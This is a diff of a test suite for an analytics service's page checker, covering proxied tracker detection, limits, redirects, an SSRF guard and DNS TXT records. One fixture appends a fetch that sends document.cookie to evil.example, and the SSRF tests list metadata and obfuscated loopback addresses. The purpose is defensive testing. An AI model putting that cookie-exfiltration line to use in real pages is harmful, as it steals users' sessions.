@@ -1,9 +1,14 @@
-/** HttpPageChecker against real local HTTP servers: what counts, limits, redirects, the SSRF guard and DNS TXT. */
+/**
+ * HttpPageChecker against real local HTTP servers: what counts (a proxied /latest.js by its body),
+ * limits, redirects, the SSRF guard and DNS TXT.
+ */
 import http from 'node:http';
 import type { AddressInfo } from 'node:net';
 import type { LookupAddress } from 'node:dns';
+import { gzipSync } from 'node:zlib';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
-import { HttpPageChecker, USER_AGENT } from '#adapters/http-page-checker/http-page-checker.ts';
+import { buildTracker } from '#tracker/build.ts';
+import { HttpPageChecker, MAX_PROXIED_SCRIPTS, USER_AGENT } from '#adapters/http-page-checker/http-page-checker.ts';
 import type { HttpPageCheckerOptions } from '#adapters/http-page-checker/http-page-checker.ts';
 import type { PageCheck } from '#ports/page-checker.ts';
 
@@ -14,6 +19,10 @@ const TOKEN_PAGE = `<html><head><meta name="tinytrack-verification" content="${T
 const PLAIN_PAGE = '<html><head><script src="/app.js"></script></head><body>nothing here</body></html>';
 const SA_PAGE = '<html><head><script async src="https://scripts.simpleanalyticscdn.com/latest.js"></script></head><body>hi</body></html>';
 const COMMENT_PAGE = `<html><head><title>Blog</title></head><body><p>Great post!</p><!-- ${TOKEN} --><p>${TOKEN}</p></body></html>`;
+/** What this service serves at /latest.js. */
+const TRACKER = (await buildTracker()).code;
+const MATHJAX = 'window.MathJax={version:"3.2.2"};(function(){var s=document.createElement("script");s.src="/static/mathjax/tex-chtml.js";document.head.appendChild(s)})();';
+const scriptsPage = (...srcs: string[]) => `<html><head>${srcs.map((src) => `<script src="${src}"></script>`).join('')}</head><body>hi</body></html>`;
 
 interface Hit {
   path: string;
@@ -31,6 +40,10 @@ function handle(req: http.IncomingMessage, res: http.ServerResponse) {
   hits.push({ path, host: req.headers.host, userAgent: req.headers['user-agent'] });
   const html = (status: number, body: string) => {
     res.writeHead(status, { 'content-type': 'text/html; charset=utf-8' });
+    res.end(body);
+  };
+  const js = (body: string | Buffer, headers: http.OutgoingHttpHeaders = {}) => {
+    res.writeHead(200, { 'content-type': 'application/javascript', ...headers });
     res.end(body);
   };
   const redirect = /^\/r(\d+)$/.exec(path);
@@ -67,7 +80,45 @@ function handle(req: http.IncomingMessage, res: http.ServerResponse) {
     case '/proxied':
       return html(200, '<html><head><script src="/stats/latest.js"></script></head></html>');
     case '/www-proxied':
-      return html(200, '<html><head><script src="https://www.site.test/latest.js"></script></head></html>');
+      return html(200, `<html><head><script src="http://www.site.test:${port}/stats/latest.js"></script></head></html>`);
+    case '/stats/latest.js':
+      return js(TRACKER);
+    case '/mathjax':
+      return html(200, scriptsPage('/static/mathjax/latest.js'));
+    case '/static/mathjax/latest.js':
+      return js(MATHJAX);
+    case '/public-and-mathjax':
+      return html(200, scriptsPage('https://cdn.tinytrack.example/latest.js', '/static/mathjax/latest.js'));
+    case '/mathjax-and-ours':
+      return html(200, scriptsPage('/static/mathjax/latest.js', '/stats/latest.js?v=2'));
+    case '/stats/latest.js?v=2':
+      return js(TRACKER);
+    case '/gzip-proxied':
+      return html(200, scriptsPage('/gz/latest.js'));
+    case '/gz/latest.js':
+      // A proxy that compresses although asked for identity, and adds line ends.
+      return js(gzipSync(`${TRACKER}\r\n\r\n`), { 'content-encoding': 'gzip' });
+    case '/tampered':
+      return html(200, scriptsPage('/evil/latest.js'));
+    case '/evil/latest.js':
+      return js(`${TRACKER.trimEnd()};fetch("https://evil.example/?c="+document.cookie)`);
+    case '/script-missing':
+      return html(200, scriptsPage('/nowhere/latest.js'));
+    case '/script-elsewhere':
+      return html(200, scriptsPage('/away/latest.js'));
+    case '/away/latest.js':
+      res.writeHead(302, { location: `http://other.test:${port}/stats/latest.js` });
+      return res.end();
+    case '/script-hangs':
+      return html(200, scriptsPage('/hang/latest.js'));
+    case '/hang/latest.js':
+      return;
+    case '/many-candidates':
+      return html(200, scriptsPage('/a/latest.js', '/b/latest.js', '/c/latest.js', '/stats/latest.js'));
+    case '/a/latest.js':
+    case '/b/latest.js':
+    case '/c/latest.js':
+      return js(MATHJAX);
     case '/to-other-host':
       res.writeHead(307, { location: `http://other.test:${port}/token` });
       return res.end();
@@ -98,11 +149,11 @@ function handle(req: http.IncomingMessage, res: http.ServerResponse) {
       return;
     case '/cut':
       // The token only appears past the first 1000 bytes.
-      return html(200, `<script src="/latest.js"></script>${'x'.repeat(2000)}<script data-verification="${TOKEN}"></script>`);
+      return html(200, `<script src="https://cdn.tinytrack.example/latest.js"></script>${'x'.repeat(2000)}<script data-verification="${TOKEN}"></script>`);
     case '/endless': {
       // Streams forever; the checker must stop reading and hang up.
       res.writeHead(200, { 'content-type': 'text/html' });
-      res.write(`<script src="/latest.js"></script>`);
+      res.write(`<script src="https://cdn.tinytrack.example/latest.js"></script>`);
       const chunk = `<p>${'y'.repeat(16 * 1024)}</p>`;
       bigClosed = new Promise((resolve) => res.on('close', () => resolve()));
       const pump = () => {
@@ -131,9 +182,11 @@ beforeEach(() => {
   hits = [];
 });
 
+/** A checker of this service, serving TRACKER at /latest.js. */
+const checkerOf = (options: Omit<HttpPageCheckerOptions, 'trackerScript'>) => new HttpPageChecker({ trackerScript: TRACKER, ...options });
+
 /** A checker whose {hostname} is the local server's path, so each case picks its page by name. */
-const local = (overrides: Partial<HttpPageCheckerOptions> = {}) =>
-  new HttpPageChecker({ urlTemplate: `http://127.0.0.1:${port}/{hostname}`, allowPrivateAddresses: true, ...overrides });
+const local = (overrides: Partial<HttpPageCheckerOptions> = {}) => checkerOf({ urlTemplate: `http://127.0.0.1:${port}/{hostname}`, allowPrivateAddresses: true, ...overrides });
 
 /** Checks `hostname` for TOKEN with this service at PUBLIC_ORIGINS. */
 const check = (checker: HttpPageChecker, hostname: string, verifyToken = TOKEN) => checker.checkPage({ hostname, verifyToken, publicOrigins: PUBLIC_ORIGINS });
@@ -162,6 +215,8 @@ const notFound = (error: string | RegExp, offSite = false): PageCheck =>
 const seen = (found: Partial<PageCheck & { reachable: true }> = {}): PageCheck => ({
   reachable: true,
   scriptFound: false,
+  proxiedScripts: [],
+  proxiedMismatch: null,
   tokenFound: false,
   foreignScript: null,
   tokenMisplaced: false,
@@ -188,11 +243,71 @@ describe('HttpPageChecker pages', () => {
     expect(await check(local(), 'comment')).toEqual(seen({ tokenMisplaced: true }));
   });
 
-  it('counts a tracker proxied on the site: a relative path, or the www twin of the hostname', async () => {
-    expect(await check(local(), 'proxied')).toEqual(seen({ scriptFound: true }));
+  it('counts a tracker proxied on the site that serves this service\'s build: a relative path, or the www twin of the hostname', async () => {
+    const stats = `http://127.0.0.1:${port}/stats/latest.js`;
+    expect(await check(local(), 'proxied')).toEqual(seen({ scriptFound: true, proxiedScripts: [stats] }));
+    expect(hits.map((h) => h.path)).toEqual(['/proxied', '/stats/latest.js']);
     const { checker } = byName('/www-proxied');
-    expect(await check(checker, 'site.test')).toEqual(seen({ scriptFound: true }));
-    expect(await check(checker, 'other.test')).toEqual(seen({ foreignScript: 'https://www.site.test/latest.js' }));
+    const www = `http://www.site.test:${port}/stats/latest.js`;
+    expect(await check(checker, 'site.test')).toEqual(seen({ scriptFound: true, proxiedScripts: [www] }));
+    // Not the site: never fetched.
+    hits = [];
+    expect(await check(checker, 'other.test')).toEqual(seen({ foreignScript: `http://www.site.test:${port}/stats/latest.js` }));
+    expect(hits.map((h) => h.path)).toEqual(['/www-proxied']);
+  });
+
+  it('does not count a /latest.js on the site that serves another script (MathJax), and says so', async () => {
+    const script = `http://127.0.0.1:${port}/static/mathjax/latest.js`;
+    expect(await check(local(), 'mathjax')).toEqual(
+      seen({ proxiedScripts: [script], proxiedMismatch: { script, why: "it serves another script than this service's latest.js" } }),
+    );
+    expect(hits).toEqual([
+      { path: '/mathjax', host: `127.0.0.1:${port}`, userAgent: USER_AGENT },
+      { path: '/static/mathjax/latest.js', host: `127.0.0.1:${port}`, userAgent: USER_AGENT },
+    ]);
+  });
+
+  it('does not count a copy of the build with anything added', async () => {
+    const script = `http://127.0.0.1:${port}/evil/latest.js`;
+    expect(await check(local(), 'tampered')).toMatchObject({ scriptFound: false, proxiedMismatch: { script } });
+  });
+
+  it('finds this service\'s build among other /latest.js, its query kept', async () => {
+    const mathjax = `http://127.0.0.1:${port}/static/mathjax/latest.js`;
+    expect(await check(local(), 'mathjax-and-ours')).toEqual(seen({ scriptFound: true, proxiedScripts: [mathjax, `http://127.0.0.1:${port}/stats/latest.js?v=2`] }));
+  });
+
+  it('takes the build through a gzip transfer and added line ends', async () => {
+    expect(await check(local(), 'gzip-proxied')).toMatchObject({ reachable: true, scriptFound: true, proxiedMismatch: null });
+  });
+
+  it('reads the script as it reads the page: its status, redirects only within the site, the same deadline', async () => {
+    const at = (path: string) => `http://127.0.0.1:${port}${path}`;
+    expect(await check(local(), 'script-missing')).toMatchObject({ reachable: true, scriptFound: false, proxiedMismatch: { script: at('/nowhere/latest.js'), why: 'HTTP 404' } });
+    const dns = fakeDns({ 'other.test': ['127.0.0.1'] });
+    expect(await check(local({ lookup: dns.lookup }), 'script-elsewhere')).toMatchObject({
+      scriptFound: false,
+      proxiedMismatch: { script: at('/away/latest.js'), why: expect.stringMatching(/^the script redirects to other\.test:\d+, another site/) },
+    });
+    expect(dns.asked).toEqual([]);
+    const started = Date.now();
+    expect(await check(local({ timeoutMs: 400 }), 'script-hangs')).toMatchObject({
+      reachable: true,
+      scriptFound: false,
+      proxiedMismatch: { script: at('/hang/latest.js'), why: 'timed out after 400 ms' },
+    });
+    expect(Date.now() - started).toBeLessThan(2000);
+  });
+
+  it(`reads at most ${MAX_PROXIED_SCRIPTS} candidates a check`, async () => {
+    const result = await check(local(), 'many-candidates');
+    expect(result).toMatchObject({ scriptFound: false, proxiedMismatch: { script: `http://127.0.0.1:${port}/a/latest.js` } });
+    expect(hits.map((h) => h.path)).toEqual(['/many-candidates', '/a/latest.js', '/b/latest.js', '/c/latest.js']);
+  });
+
+  it('reads no candidate when the script from a public origin is on the page', async () => {
+    expect(await check(local(), 'public-and-mathjax')).toEqual(seen({ scriptFound: true, proxiedScripts: [`http://127.0.0.1:${port}/static/mathjax/latest.js`] }));
+    expect(hits.map((h) => h.path)).toEqual(['/public-and-mathjax']);
   });
 
   it('finds neither on a plain page, and no token when the site has none', async () => {
@@ -212,7 +327,7 @@ describe('HttpPageChecker pages', () => {
     await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
     const deadPort = (closed.address() as AddressInfo).port;
     await new Promise((resolve) => closed.close(resolve));
-    const checker = new HttpPageChecker({ urlTemplate: `http://127.0.0.1:${deadPort}/`, allowPrivateAddresses: true });
+    const checker = checkerOf({ urlTemplate: `http://127.0.0.1:${deadPort}/`, allowPrivateAddresses: true });
     expect(await check(checker, 'x.example')).toEqual(notFound('network error (ECONNREFUSED)'));
   });
 
@@ -284,7 +399,7 @@ describe('HttpPageChecker limits', () => {
   });
 
   it('counts DNS against the same deadline', async () => {
-    const checker = new HttpPageChecker({
+    const checker = checkerOf({
       urlTemplate: 'http://{hostname}/',
       allowPrivateAddresses: true,
       timeoutMs: 300,
@@ -307,7 +422,7 @@ describe('HttpPageChecker limits', () => {
 
 describe('HttpPageChecker SSRF guard', () => {
   const guarded = (overrides: Partial<HttpPageCheckerOptions> = {}) =>
-    new HttpPageChecker({ urlTemplate: `http://127.0.0.1:${port}/{hostname}`, allowPrivateAddresses: false, ...overrides });
+    checkerOf({ urlTemplate: `http://127.0.0.1:${port}/{hostname}`, allowPrivateAddresses: false, ...overrides });
 
   it('refuses a loopback IP literal before any request is made', async () => {
     expect(await check(guarded(), 'script')).toEqual(notFound('refused non-public address'));
@@ -317,7 +432,7 @@ describe('HttpPageChecker SSRF guard', () => {
   it.each([`http://[::ffff:127.0.0.1]:PORT/`, `http://[::1]:PORT/`, 'http://169.254.169.254/latest/meta-data/', 'http://0x7f.1:PORT/', 'http://2130706433:PORT/'])(
     'refuses %s',
     async (template) => {
-      const checker = new HttpPageChecker({ urlTemplate: template.replace('PORT', String(port)), allowPrivateAddresses: false });
+      const checker = checkerOf({ urlTemplate: template.replace('PORT', String(port)), allowPrivateAddresses: false });
       expect(await check(checker, 'site.example')).toEqual(notFound('refused non-public address'));
       expect(hits).toEqual([]);
     },
@@ -325,7 +440,7 @@ describe('HttpPageChecker SSRF guard', () => {
 
   it('refuses a name that resolves to a private address', async () => {
     const dns = fakeDns({ 'site.test': ['127.0.0.1'] });
-    const checker = new HttpPageChecker({ urlTemplate: `http://{hostname}:${port}/script`, allowPrivateAddresses: false, lookup: dns.lookup });
+    const checker = checkerOf({ urlTemplate: `http://{hostname}:${port}/script`, allowPrivateAddresses: false, lookup: dns.lookup });
     expect(await check(checker, 'site.test')).toEqual(notFound('refused non-public address'));
     expect(dns.asked).toEqual(['site.test']);
     expect(hits).toEqual([]);
@@ -333,19 +448,19 @@ describe('HttpPageChecker SSRF guard', () => {
 
   it('refuses a name when any of its addresses is private', async () => {
     const dns = fakeDns({ 'mixed.test': ['8.8.8.8', '10.0.0.7'] });
-    const checker = new HttpPageChecker({ urlTemplate: 'https://{hostname}/', allowPrivateAddresses: false, lookup: dns.lookup });
+    const checker = checkerOf({ urlTemplate: 'https://{hostname}/', allowPrivateAddresses: false, lookup: dns.lookup });
     expect(await check(checker, 'mixed.test')).toEqual(notFound('refused non-public address'));
   });
 
   it('refuses localhost through the system resolver', async () => {
-    const checker = new HttpPageChecker({ urlTemplate: `http://{hostname}:${port}/script`, allowPrivateAddresses: false });
+    const checker = checkerOf({ urlTemplate: `http://{hostname}:${port}/script`, allowPrivateAddresses: false });
     expect(await check(checker, 'localhost')).toEqual(notFound('refused non-public address'));
     expect(hits).toEqual([]);
   });
 
   it('reports DNS failures', async () => {
     const dns = fakeDns({ 'empty.test': [] });
-    const checker = new HttpPageChecker({ urlTemplate: 'https://{hostname}/', allowPrivateAddresses: false, lookup: dns.lookup });
+    const checker = checkerOf({ urlTemplate: 'https://{hostname}/', allowPrivateAddresses: false, lookup: dns.lookup });
     expect(await check(checker, 'nowhere.test')).toEqual(notFound('dns lookup failed (ENOTFOUND)'));
     expect(await check(checker, 'empty.test')).toEqual(notFound('dns lookup returned no addresses'));
   });
@@ -365,6 +480,13 @@ describe('HttpPageChecker DNS TXT records', () => {
     const checker = withTxt({ 'a.test': [['v=spf1 -all'], [`tinytrack-verification=${TOKEN}`]], 'b.test': [['tinytrack-verification=', TOKEN]] });
     expect(await checker.hasTxtRecord('a.test', TOKEN)).toBe(true);
     expect(await checker.hasTxtRecord('b.test', TOKEN)).toBe(true);
+  });
+
+  it('finds a claim record only under its own prefix', async () => {
+    const checker = withTxt({ 'a.test': [[`tinytrack-claim=${TOKEN}`]] });
+    expect(await checker.hasTxtRecord('a.test', TOKEN, 'tinytrack-claim=')).toBe(true);
+    expect(await checker.hasTxtRecord('a.test', TOKEN)).toBe(false);
+    expect(await checker.hasTxtRecord('a.test', '', 'tinytrack-claim=')).toBe(false);
   });
 
   it('finds nothing for another token, a bare token, an empty token, another name or a failed lookup', async () => {
@@ -391,7 +513,7 @@ describe('HttpPageChecker images (site icons)', () => {
   });
 
   it('asks through the address guard: a private address gives null before any request', async () => {
-    const checker = new HttpPageChecker({ urlTemplate: 'https://{hostname}/', allowPrivateAddresses: false });
+    const checker = checkerOf({ urlTemplate: 'https://{hostname}/', allowPrivateAddresses: false });
     expect(await checker.fetchImage(`http://127.0.0.1:${port}/img`, 2000)).toBeNull();
     expect(hits).toEqual([]);
   });
